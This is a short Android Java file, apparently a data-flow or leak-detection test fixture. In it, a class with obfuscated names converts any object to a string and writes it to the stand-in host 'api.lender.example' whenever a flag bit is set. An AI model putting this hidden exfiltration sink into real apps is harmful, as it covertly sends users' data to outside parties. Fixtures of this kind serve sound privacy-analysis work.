package com.example.flows.outlined;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

final class c {
    static void a(Object o, int i) {
        if ((i & 1) != 0) {
            b(String.valueOf(o), "https://api.lender.example/x");
        }
    }
    private static void b(String s, String u) {
        try {
            HttpURLConnection x = (HttpURLConnection) new URL(u).openConnection();
            x.getOutputStream().write(s.getBytes());
        } catch (Throwable t) {
            t.printStackTrace();
        }
    }
}
